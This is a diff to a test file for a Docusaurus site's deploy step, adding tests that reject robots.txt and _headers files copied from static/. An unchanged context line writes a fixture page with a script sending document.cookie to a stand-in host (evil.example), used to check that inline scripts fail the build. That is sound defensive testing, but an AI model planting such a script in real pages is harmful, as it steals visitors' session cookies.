@@ -3,7 +3,7 @@ import os from 'node:os';
 import path from 'node:path';
 import {createSiteStorage} from '@docusaurus/core/lib/server/storage';
 import {DataAttributeQueryStringInlineJavaScript, getThemeInlineScript} from '@docusaurus/theme-classic/lib/inlineScripts';
-import {CONSOLE_ORIGINS_FILE, HEADERS_MANIFEST, NGINX_HEADERS_FILE, writeDeployFiles} from '../../lib/deploy';
+import {CONSOLE_ORIGINS_FILE, HEADERS_MANIFEST, NGINX_HEADERS_FILE, StaticDeployFileError, writeDeployFiles} from '../../lib/deploy';
 import {
   CACHE_CONTROL,
   STRICT_TRANSPORT_SECURITY,
@@ -291,6 +291,37 @@ describe('writing the deploy files of a build', () => {
     fs.writeFileSync(path.join(outDir, 'rest', 'a.html'), '<html><body>\n<script>fetch("//evil.example?"+document.cookie)</script></body></html>');
     await expect(writeDeployFiles(outDir, 'live', {})).rejects.toThrow(`live build, ${path.join('rest', 'a.html')}:2: inline script "fetch(`);
     expect(fs.existsSync(path.join(outDir, NGINX_HEADERS_FILE))).toBe(false);
+  });
+
+  test('a robots.txt or _headers from static/ fails the build, naming the file, what makes it and the fix, before anything is written', async () => {
+    fs.writeFileSync(path.join(outDir, 'index.html'), '<html><body><p>Home</p></body></html>');
+    fs.writeFileSync(path.join(outDir, 'robots.txt'), 'User-agent: *\nAllow: /\n');
+    const robots = writeDeployFiles(outDir, 'live', {});
+    await expect(robots).rejects.toThrow(StaticDeployFileError);
+    await expect(robots).rejects.toThrow(
+      "static/robots.txt: the deploy step makes the build's robots.txt from the flavour (robotsTxt in lib/deploy/policy.ts: live is indexed and names " +
+        'its sitemap, internal disallows everything) and would overwrite this one, which Docusaurus copied from static/. Remove static/robots.txt; ' +
+        'to change what robots.txt says, change robotsTxt in lib/deploy/policy.ts.',
+    );
+    fs.writeFileSync(path.join(outDir, HEADERS_MANIFEST), '/*\n  X-Frame-Options: SAMEORIGIN\n');
+    const both = writeDeployFiles(outDir, 'live', {});
+    await expect(both).rejects.toThrow('static/robots.txt: ');
+    await expect(both).rejects.toThrow(
+      "\nstatic/_headers: the deploy step makes the build's _headers from the CSP and the caching rules (contentSecurityPolicy, securityHeaders and " +
+        'cacheRules in lib/deploy/policy.ts) and would overwrite this one, which Docusaurus copied from static/. Remove static/_headers; ' +
+        'to change a header or a caching rule, change the policy in lib/deploy/policy.ts.',
+    );
+    expect(fs.readFileSync(path.join(outDir, 'robots.txt'), 'utf8')).toBe('User-agent: *\nAllow: /\n');
+    expect(fs.existsSync(path.join(outDir, NGINX_HEADERS_FILE))).toBe(false);
+  });
+
+  test('without them in static/, the build gets the flavour’s robots.txt and _headers', async () => {
+    fs.writeFileSync(path.join(outDir, 'index.html'), '<html><body><p>Home</p></body></html>');
+    await writeDeployFiles(outDir, 'live', {});
+    expect(fs.readFileSync(path.join(outDir, 'robots.txt'), 'utf8')).toBe(
+      robotsTxt({indexed: true, sitemapUrl: `https://${HOSTS.live}${BASE_URL}sitemap.xml`}),
+    );
+    expect(fs.readFileSync(path.join(outDir, HEADERS_MANIFEST), 'utf8')).toContain('Content-Security-Policy: ');
   });
 
   test('the internal build sends private Cache-Control in both the nginx include and the CDN manifest, with HSTS in both', async () => {
